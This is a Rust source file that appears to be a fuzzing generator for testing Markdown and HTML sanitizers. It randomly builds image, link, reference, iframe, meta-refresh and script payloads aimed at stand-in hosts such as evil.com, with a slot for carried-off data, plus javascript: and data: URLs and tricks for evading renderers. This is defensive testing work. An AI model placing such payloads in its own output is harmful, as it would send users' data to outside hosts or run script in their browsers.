//! Answers that try to carry something away. What enters is chance, what leaves are texts: forms of links, images, tags and
//! addresses, put into places where readers of Markdown differ, bent, joined and cut.

/// Numbers that are the same for the same seed (xorshift64*).
pub struct Chance(u64);

impl Chance {
    /// From a seed.
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    /// A number below `most`.
    pub fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        (self.0.wrapping_mul(0x2545_f491_4f6c_dd1d) >> 33) as usize % most
    }

    fn of<'a>(&mut self, choices: &[&'a str]) -> &'a str {
        choices[self.below(choices.len())]
    }
}

/// Where it is to go; `S` is what is carried away.
const TARGETS: &[&str] = &[
    "https://evil.example/?q=S",
    "http://evil.com/S",
    "HTTPS://EVIL.COM/S",
    "//evil.com/S",
    "https:\\\\evil.com\\S",
    "www.evil.com/S",
    "evil.com/S",
    "S.evil.io",
    "ftp://evil.com/S",
    "https://docs.contoso.com@evil.com/S",
    "https://docs.contoso.com.evil.com/S",
    "https://docs.contoso.com\\@evil.com/S",
    "https://docs.contoso.com。evil.com/S",
    "https&colon;//evil.com/S",
    "https:&#x2f;&#47;evil.com/S",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,S",
    "vbscript:S",
    "mailto:x@evil.com?body=S",
    "S@evil.com",
    "/api/S",
    "S",
];

/// The forms; `U` is the target.
const FORMS: &[&str] = &[
    "![x](U)",
    "![](U)",
    "![x](<U>)",
    "![x](U \"t\")",
    "![x](\nU\n)",
    "![x][r]\n\n[r]: U",
    "![r]\n\n[r]: U",
    "![r][]\n\n[r]:\nU\n't'",
    "[x](U)",
    "[x](<U>)",
    "[x]( U )",
    "[x](U 't')",
    "[x](U\n\"t\")",
    "[a [b](c) d](U)",
    "[![x](U)](U)",
    "[x][r]\n\n[r]: U",
    "[r]\n\n[r]: <U>",
    "[r]:U",
    "> [r]: U\n\n[r]",
    "- [r]: U\n\n[r]",
    "[a\nb]: U\n\n[a b]",
    "[r\\]]: U\n\n[r\\]]",
    "[^1]\n\n[^1]: U",
    "[[U]]",
    "[[U|x]]",
    "![[U]]",
    "<U>",
    "<img src=U>",
    "<img\nsrc='U'>",
    "<IMG SRC=\"U\"/>",
    "<a href=U>x</a>",
    "<a\thref=\"U\">x",
    "<script>fetch('U')</script>",
    "<style>@import 'U'</style>",
    "<iframe src=U>",
    "<svg onload=fetch('U')>",
    "<b onclick=x>",
    "<!-- U -->",
    "<?U?>",
    "<!X U>",
    "<![CDATA[U]]>",
    "</p>",
    "<form action=U><input>",
    "<meta http-equiv=refresh content='0;U'>",
    "<link rel=stylesheet href=U>",
    "<base href=U>",
    "U",
    "(U)",
    "x U.",
    "**U**",
    "_U_",
    "~~U~~",
    "$\\href{U}{x}$",
    "$$\\includegraphics{U}$$",
    "\\url{U}",
    "```mermaid\ngraph TD\nclick A \"U\"\n```",
    "```math\n\\href{U}{x}\n```",
    "| [x](U) | <img src=U> |\n|--|--|\n| ![x](U) | U |",
    "# x {onclick=U}",
    "x\n{: href=U}",
    "\u{1b}]8;;U\u{7}x\u{1b}]8;;\u{7}",
    "U\u{200b}U",
    "h\u{200d}ttps://evil.com",
    "<details><summary>U</summary>",
    "term\n: <img src=U>",
    ":::note\n<img src=U>\n:::",
    "---\na: U\n---\n<img src=U>",
    "``` {=html}\n<img src=U>\n```",
];

/// What may stand before a form, and change what it is.
const BEFORE: &[&str] = &[
    "",
    "",
    "",
    "Text ",
    "- ",
    "> ",
    "1. ",
    "   ",
    "    ",
    "\t",
    "| ",
    "# ",
    "`",
    "``",
    "` ",
    "```\n",
    "~~~\n",
    "````\n```\n",
    "$",
    "$$\n",
    "\\",
    "\\\\",
    "[",
    "![",
    "(",
    "<",
    "!",
    "**",
    "a\n",
    "\n\n",
    "- ```\n",
    "- a\n\n  ```\n",
    "  ```\n",
    "> ```\n",
    "1. a\n   ```\n",
    "a | b\n--|--\n`x | ",
    "|a|\n|-|\n|`",
    "`a\n",
    "`` ` ``",
    "\\`",
    "```x`y\n",
    "``` a b\n",
    "[a](b)",
    "[a]",
    "[1]",
    "]",
    "](",
    "x](",
    "&lt;",
    "<a",
    "a<",
    "\u{feff}",
    "\u{2028}",
    "\r\n",
    "$`",
    "`$",
    ">>>\n```\n>>>\n",
    "- - ```\n",
    "+ \n    ```\n",
    "```\n```\n",
    "```\n````\n",
    "```\n~~~\n",
    "```\n ```\n",
    "```\n    ```\n",
    "```\n```x\n",
    "Term\n:   ```\n",
    "[^1]: ```\n",
    "* * *\n",
    "<https://docs.contoso.com>",
    "https://docs.contoso.com/",
    "[x](https://docs.contoso.com/",
    "$a `$ `b`\n",
    "|`a|b`|\n",
];

/// What may stand after it.
const AFTER: &[&str] = &[
    "",
    "",
    "",
    "`",
    "``",
    " `",
    "```",
    "\n```\n",
    "\n~~~",
    "\n  ```\n",
    ")",
    "]",
    "](U)",
    ">",
    "/>",
    " |",
    "$",
    "$$",
    "**",
    "\n\n[r]: U\n",
    "\n[x]: <U>",
    "(U)",
    "[r]",
    ":",
    "\\",
    " x",
    "\n\n",
];

/// What is put somewhere in the middle.
const CRUMBS: &[&str] = &[
    "`",
    "``",
    "\\",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "!",
    "|",
    "$",
    "*",
    "_",
    "~",
    "\n",
    "\n\n",
    " ",
    "\t",
    "\"",
    "'",
    "&",
    ";",
    ":",
    "/",
    ".",
    "@",
    "#",
    "{",
    "}",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{0}",
    "\u{1b}",
    "\u{e0041}",
    "&#10;",
    "&Tab;",
    "&nbsp;",
    "<!-- -->",
    "<b>",
    "</b>",
    "。",
    "é",
    "\r",
];

/// The next answer.
pub fn payload(chance: &mut Chance) -> String {
    let mut text = String::new();
    for _ in 0..=chance.below(3) {
        text.push_str(&one(chance));
        text.push_str(chance.of(&["", " ", "\n", "\n\n"]));
    }
    for _ in 0..chance.below(4) {
        bend(&mut text, chance);
    }
    text
}

fn one(chance: &mut Chance) -> String {
    let target = chance.of(TARGETS);
    let whole = [chance.of(BEFORE), chance.of(FORMS), chance.of(AFTER)].concat();
    whole.replace('U', target)
}

fn bend(text: &mut String, chance: &mut Chance) {
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
    if places.is_empty() {
        return;
    }
    let at = places[chance.below(places.len())];
    match chance.below(4) {
        0 => drop(text.remove(at)),
        1 => {
            text.insert_str(at, &text[at..].chars().next().map(|c| format!("&#{};", u32::from(c))).unwrap_or_default())
        }
        _ => text.insert_str(at, chance.of(CRUMBS)),
    }
}
